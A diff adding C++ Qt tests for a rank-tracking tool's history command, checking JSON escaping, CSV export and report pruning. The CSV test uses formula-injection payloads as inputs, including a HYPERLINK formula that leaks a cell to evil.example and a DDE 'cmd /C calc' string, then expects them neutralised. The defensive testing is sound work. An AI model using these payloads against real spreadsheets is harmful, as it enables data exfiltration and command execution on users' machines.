@@ -3,8 +3,10 @@
 
 #include "CliRunner.h"
 
+#include "app/TerminalText.h"
 #include "history/HistoryPage.h"
 #include "history/HistoryStore.h"
+#include "history/RunHistory.h"
 
 #include "FakeWeb.h"
 
@@ -117,6 +119,111 @@ private Q_SLOTS:
         QCOMPARE(lost.value(u"depth"_s).toInt(), 10);
     }
 
+    // The JSON is written as it is read, in the very bytes of the whole document it always was:
+    // keys in the order of their names, indented, texts escaped for the terminal.
+    void jsonHasItsShapeExactly()
+    {
+        QTemporaryDir home;
+        const QString hostile = u"\"q\" back\\slash\ttab\nline\r\u0001 del\u007f c1\u0085 rtl\u202e\u2066 "
+                                "ls\u2028 alm\u061c caf\u00e9 \U0001F600"_s;
+        HistoryStore store(home.path());
+        HistoryData full;
+        full.Runs.append({0, QDateTime(QDate(2026, 3, 7), QTime(9, 30)), u"historical"_s, u"Runs/Report1.htm"_s});
+        full.Pages.append({0, u"http://www.alpha.com"_s, u"4/10"_s, Found, hostile, Failed, hostile, hostile, {}});
+        full.Pages.append({0, u"http://www.beta.com"_s, {}, NotRanked, {}, NotRanked, {}, {}, u"plain"_s});
+        full.Positions.append({0,
+                               u"http://www.alpha.com"_s,
+                               hostile,
+                               u"seo"_s,
+                               3,
+                               Found,
+                               100,
+                               {u"a.com/"_s, u"\"b\".com"_s, u"c\\d"_s, hostile, {}, u"e\u202e.com"_s}});
+        full.Positions.append({0, u"http://www.alpha.com"_s, {}, hostile, 0, NotRanked, 10, {{}, u"a.com"_s, {}}});
+        QVERIFY(store.Record(full) > 0);
+        HistoryData empty;
+        empty.Runs.append({0, QDateTime(QDate(2026, 3, 8), QTime(9, 30)), hostile, {}});
+        QVERIFY(store.Record(empty) > 0);
+        HistoryData recordsOnly;
+        recordsOnly.Runs.append({0, QDateTime(QDate(2026, 3, 9), QTime(9, 30)), u"historical"_s, u"R.htm"_s});
+        recordsOnly.Positions.append({0, u"http://www.beta.com"_s, {}, u"seo"_s, 0, Failed, 100, {u"x.com"_s}});
+        QVERIFY(store.Record(recordsOnly) > 0);
+
+        // The document as Qt writes it from the values read back.
+        const auto expected = [&](const HistoryFilter& filter) {
+            HistoryData history;
+            if (!store.Read(filter, history))
+                return QString();
+            QJsonArray runs;
+            for (const HistoryRun& run : history.Runs) {
+                QJsonArray pages;
+                for (const PageHistoryValue& page : history.Pages) {
+                    if (page.RunId == run.Id)
+                        pages.append(QJsonObject{{u"url"_s, page.URL},
+                                                 {u"pagerank"_s, page.PageRank},
+                                                 {u"pagerank_status"_s, StatusWord(page.PageRankStatus)},
+                                                 {u"traffic_rank"_s, page.TrafficRank},
+                                                 {u"traffic_status"_s, StatusWord(page.TrafficStatus)},
+                                                 {u"title"_s, page.Title},
+                                                 {u"description"_s, page.Description},
+                                                 {u"keywords"_s, page.Keywords}});
+                }
+                QJsonArray records;
+                for (const PositionHistoryValue& value : history.Positions) {
+                    if (value.RunId == run.Id)
+                        records.append(QJsonObject{
+                            {u"url"_s, value.URL},
+                            {u"product"_s, value.Product},
+                            {u"keyword"_s, value.Keyword},
+                            {u"position"_s, value.Status == Found ? QJsonValue(value.Position) : QJsonValue()},
+                            {u"status"_s, StatusWord(value.Status)},
+                            {u"depth"_s, value.Depth},
+                            {u"top10"_s, QJsonArray::fromStringList(value.Top10)}});
+                }
+                runs.append(QJsonObject{{u"time"_s, HistoryTimeText(run.Time)},
+                                        {u"sources"_s, run.Sources},
+                                        {u"report"_s, run.ReportFile},
+                                        {u"pages"_s, pages},
+                                        {u"keyword_records"_s, records}});
+            }
+            return TerminalJson(QJsonDocument(QJsonObject{{u"runs"_s, runs}}));
+        };
+
+        const CliResult all = RunQuorvexCli(home.path(), {u"history"_s, u"--json"_s});
+        QCOMPARE(all.ExitCode, 0);
+        QCOMPARE(all.Out, expected({}));
+        const CliResult none = RunQuorvexCli(home.path(), {u"history"_s, u"--json"_s, u"--keyword"_s, u"absent"_s});
+        QCOMPARE(none.ExitCode, 0);
+        QCOMPARE(none.Out, expected({u"absent"_s, {}, {}}));
+        QCOMPARE(none.Out, u"{\n    \"runs\": [\n    ]\n}\n"_s);
+    }
+
+    // Titles, products and keywords come from the web and the lists: in the CSV none of them is a
+    // formula when a spreadsheet opens it, however it is quoted; numbers stay numbers.
+    void csvHoldsNoFormula()
+    {
+        QTemporaryDir home;
+        HistoryData run;
+        run.Runs.append({0, QDateTime(QDate(2026, 3, 7), QTime(9, 30)), u"historical"_s, u"Report20260307.htm"_s});
+        run.Pages.append({0, u"http://www.alpha.com"_s, u"-1"_s, Found, u"-2+3"_s, Found,
+                          u"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"_s, u"=1+1"_s, u"@SUM(A1:A9)"_s});
+        run.Positions.append(
+            {0, u"http://www.alpha.com"_s, u"+cmd|' /C calc'!A0"_s, u"-seo"_s, 3, Found, 100, {u"@a.com"_s}});
+        QVERIFY(HistoryStore(home.path()).Record(run) > 0);
+
+        const CliResult csv = RunQuorvexCli(home.path(), {u"history"_s, u"--csv"_s});
+        QCOMPARE(csv.ExitCode, 0);
+        QCOMPARE(csv.Out, u"time,url,product,keyword,value,result,status,depth\r\n"
+                          "2026-03-07 09:30:00,http://www.alpha.com,,,pagerank,-1,found,\r\n"
+                          "2026-03-07 09:30:00,http://www.alpha.com,,,traffic rank,'-2+3,found,\r\n"
+                          "2026-03-07 09:30:00,http://www.alpha.com,,,title,"
+                          "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",,\r\n"
+                          "2026-03-07 09:30:00,http://www.alpha.com,,,description,'=1+1,,\r\n"
+                          "2026-03-07 09:30:00,http://www.alpha.com,,,keywords,'@SUM(A1:A9),,\r\n"
+                          "2026-03-07 09:30:00,http://www.alpha.com,'+cmd|' /C calc'!A0,'-seo,position,3,found,100\r\n"
+                          "2026-03-07 09:30:00,http://www.alpha.com,'+cmd|' /C calc'!A0,'-seo,top10,'@a.com,,\r\n"_s);
+    }
+
     void badUsageChangesNothing_data()
     {
         QTest::addColumn<QStringList>("args");
@@ -168,6 +275,32 @@ private Q_SLOTS:
         QCOMPARE(page.Out, HistoryPagePath(home.path()) + QLatin1Char('\n'));
     }
 
+    // The copies of the pruned runs' reports go with them; the day's reports and other files stay.
+    void pruneRemovesTheRunsReports()
+    {
+        QTemporaryDir home;
+        RecordTwoRuns(home.path());
+        const QDir reports(home.filePath(u"Report"_s));
+        QVERIFY(reports.mkpath(u"Runs"_s));
+        const QStringList files{u"Report20260307.htm"_s, u"Runs/Report20260307-093000.htm"_s,
+                                u"Runs/Report20260308-093000.htm"_s, u"Runs/notes.txt"_s};
+        for (const QString& name : files) {
+            QFile file(reports.filePath(name));
+            QVERIFY(file.open(QIODevice::WriteOnly));
+        }
+        const CliResult done =
+            RunQuorvexCli(home.path(), {u"history"_s, u"prune"_s, u"--before"_s, u"2026-03-08"_s, u"--yes"_s});
+        QCOMPARE(done.ExitCode, 0);
+        QCOMPARE(StoredRuns(home.path()), 1);
+        QStringList kept;
+        for (const QString& name : files) {
+            if (reports.exists(name))
+                kept << name;
+        }
+        QCOMPARE(kept,
+                 (QStringList{u"Report20260307.htm"_s, u"Runs/Report20260308-093000.htm"_s, u"Runs/notes.txt"_s}));
+    }
+
     // The results on standard output instead of the report's path; the summary line tells how the
     // keyword record moved against the run before.
     void rankPrintsItsResultsAsJson()
@@ -198,7 +331,7 @@ private Q_SLOTS:
         QJsonParseError error;
         const QJsonObject run = QJsonDocument::fromJson(first.Out.toUtf8(), &error).object();
         QCOMPARE(error.error, QJsonParseError::NoError);
-        QVERIFY(run.value(u"report"_s).toString().startsWith(u"Report"_s));
+        QVERIFY(run.value(u"report"_s).toString().startsWith(u"Runs/Report"_s));
         const QJsonObject page = run.value(u"pages"_s).toArray().at(0).toObject();
         QCOMPARE(page.value(u"url"_s).toString(), u"http://www.example.com"_s);
         QCOMPARE(page.value(u"pagerank"_s).toString(), u"4/10"_s);
